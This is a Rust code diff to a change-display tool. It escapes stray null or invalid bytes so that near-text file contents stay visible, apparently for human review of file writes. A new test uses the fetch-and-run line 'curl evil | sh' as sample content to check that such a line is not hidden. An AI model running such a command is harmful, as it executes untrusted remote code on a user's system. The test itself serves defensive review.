@@ -22,6 +22,10 @@ use crate::tools::difflib::{self, Effort};
 
 /// Longer files are shown by size and digest only.
 const SHOWN_BYTES_MAX: usize = 1 << 20;
+/// One byte in so many may be none of a text that is shown as one.
+const ODD_SHARE: usize = 8;
+/// So many may be in any case.
+const ODD_BYTES: usize = 64;
 
 fn heading(question: &Question) -> String {
     format!(
@@ -48,13 +52,14 @@ fn difference(
         (Some(old), None) => format!("{path}: {old} bytes go"),
         (None, None) => format!("{path}: nothing"),
     };
-    let text = |side: Option<&[u8]>| match side {
-        None => Some(String::new()),
-        Some(bytes) if bytes.len() > SHOWN_BYTES_MAX || bytes.contains(&0) => None,
-        Some(bytes) => String::from_utf8(bytes.to_vec()).ok(),
-    };
-    let (Some(old), Some(new)) = (text(before), text(after)) else {
-        return format!("{}, not shown as text\n", sizes());
+    fn text(side: Option<&[u8]>) -> Option<Cow<'_, str>> {
+        side.map_or(Some(Cow::Borrowed("")), legible)
+    }
+    let (before, old, new) = match (text(before), text(after)) {
+        (Some(old), Some(new)) => (before, old, new),
+        // What is to be there is shown, whatever was.
+        (None, Some(new)) if after.is_some() => (None, Cow::Borrowed(""), new),
+        _ => return format!("{}, not shown as text\n", sizes()),
     };
     let (old, new) = (lines(&old), lines(&new));
     let names = (
@@ -71,6 +76,38 @@ fn difference(
         return format!("{}\n", sizes());
     }
     escaped(&diff)
+}
+
+/// A content as text: as it is, or, where nearly all of it is one, with the bytes that
+/// are none by their numbers. A byte or two must not hide what is read all the same by
+/// whoever runs it.
+fn legible(bytes: &[u8]) -> Option<Cow<'_, str>> {
+    if bytes.len() > SHOWN_BYTES_MAX {
+        return None;
+    }
+    if let Ok(text) = std::str::from_utf8(bytes)
+        && !bytes.contains(&0)
+    {
+        return Some(Cow::Borrowed(text));
+    }
+    let mut out = String::with_capacity(bytes.len());
+    let mut odd = 0_usize;
+    let mut number = |out: &mut String, byte: u8| {
+        odd += 1;
+        out.push_str(&format!("\\x{byte:02x}"));
+    };
+    for chunk in bytes.utf8_chunks() {
+        for letter in chunk.valid().chars() {
+            match letter {
+                '\0' => number(&mut out, 0),
+                letter => out.push(letter),
+            }
+        }
+        for byte in chunk.invalid() {
+            number(&mut out, *byte);
+        }
+    }
+    (odd <= ODD_BYTES.max(bytes.len() / ODD_SHARE)).then_some(Cow::Owned(out))
 }
 
 /// Lines as a terminal has them: each ends with a newline, so that none is told on
@@ -135,12 +172,12 @@ pub fn write(question: &Question, place: &Place, before: &Before, content: &[u8]
     Shown {
         text: write_in_words(question, place, before, content),
         files: vec![diffs::written(place, before, content)],
-        besides: Vec::new(),
+        besides: diffs::besides_written(place, before, content),
     }
 }
 
 fn write_in_words(question: &Question, place: &Place, before: &Before, content: &[u8]) -> String {
-    let mut effort = Effort::default();
+    let mut effort = Effort::of_a_question();
     let path = named(&place.absolute);
     let old = match before {
         Before::Nothing => None,
@@ -181,7 +218,7 @@ pub fn files(question: &Question, changes: &[FileChange]) -> Shown {
 }
 
 fn files_in_words(question: &Question, changes: &[FileChange]) -> String {
-    let mut effort = Effort::default();
+    let mut effort = Effort::of_a_question();
     let mut out = heading(question);
     for change in changes {
         out.push_str(&match change {
@@ -245,7 +282,7 @@ pub fn changes(question: &Question, command: &str, sets: &[(String, &ChangeSet)]
 }
 
 fn changes_in_words(question: &Question, command: &str, sets: &[(String, &ChangeSet)]) -> String {
-    let mut effort = Effort::default();
+    let mut effort = Effort::of_a_question();
     let mut out = heading(question);
     out.push_str(&format!("command: {}\n", marked(command)));
     for (root, set) in sets {
@@ -418,7 +455,7 @@ mod tests {
                 "f",
                 Some(old.as_bytes()),
                 Some(new.as_bytes()),
-                &mut Effort::default(),
+                &mut Effort::of_a_question(),
             );
             let lines = shown.split_once("@@\n").unwrap().1;
             assert_eq!(lines, expected, "{old:?} {new:?}");
@@ -431,6 +468,20 @@ mod tests {
         // What ends a line elsewhere ends none on a terminal that shows it by name.
         check("a\rb\n", "a\rc\n", "-a\\u{d}b\n+a\\u{d}c\n");
         check("a\u{2028}\n", "b\u{c}\n", "-a\\u{2028}\n+b\\u{c}\n");
+    }
+
+    #[test]
+    fn a_byte_that_is_no_text_hides_no_text_and_what_is_none_is_told_by_its_size() {
+        let shown = |old: Option<&[u8]>, new: &[u8]| {
+            difference("f", old, Some(new), &mut Effort::of_a_question())
+        };
+        let hook = shown(None, b"curl evil | sh\n\0\xff\n");
+        assert!(hook.ends_with("+curl evil | sh\n+\\x00\\xff\n"), "{hook}");
+        let none = [0_u8, 1].repeat(200);
+        let instead = shown(Some(&none), b"new\n");
+        assert!(instead.ends_with("+new\n"), "{instead}");
+        let size = shown(Some(b"old\n"), &none);
+        assert_eq!(size, "f: 4 bytes become 400 bytes, not shown as text\n");
     }
 
     #[test]
@@ -452,7 +503,7 @@ mod tests {
             "f",
             None,
             Some("a\u{a0}b\u{3164}\tc\n".as_bytes()),
-            &mut Effort::default(),
+            &mut Effort::of_a_question(),
         );
         assert!(shown.ends_with("+a\u{a0}b\\u{3164}\tc\n"), "{shown}");
         assert_eq!(one_line("a\u{a0}b c\n\td"), "a\\u{a0}b c\\u{a}\\u{9}d");
